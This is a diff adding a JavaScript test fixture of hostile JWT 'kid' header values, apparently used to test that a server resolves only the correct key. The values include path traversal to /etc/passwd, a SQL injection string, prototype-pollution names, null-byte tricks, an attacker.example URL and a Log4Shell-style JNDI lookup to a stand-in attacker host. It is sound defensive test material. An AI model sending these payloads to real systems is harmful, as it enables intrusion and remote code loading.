@@ -1,0 +1,22 @@
+// What has been put into a kid to make a server look elsewhere; k1 is the right one. [number, comment, kid]
+export const hostileKids = [
+  [0, 'a path', '../../../../dev/null'],
+  [1, 'an absolute path', '/etc/passwd'],
+  [2, 'a query', "' OR '1'='1"],
+  [3, '__proto__', '__proto__'],
+  [4, 'constructor', 'constructor'],
+  [5, 'toString', 'toString'],
+  [6, 'hasOwnProperty', 'hasOwnProperty'],
+  [7, 'a zero byte', '\u0000'],
+  [8, 'the right kid and a zero byte', 'k1\u0000'],
+  [9, '10000 letters', 'k'.repeat(10000)],
+  [10, 'the right kid in other case', 'K1'],
+  [11, 'the right kid and a space', 'k1 '],
+  [12, 'a URL', 'https://attacker.example/key'],
+  [13, 'a lone dot', '.'],
+  [14, 'a wildcard', '*'],
+  [15, 'the word null', 'null'],
+  [16, 'a full-width spelling of the right kid', '\uff4b1'],
+  [17, 'a template', '$' + '{jndi:ldap://attacker.example/a}'],
+  [18, 'a prefix of the right kid', 'k'],
+]
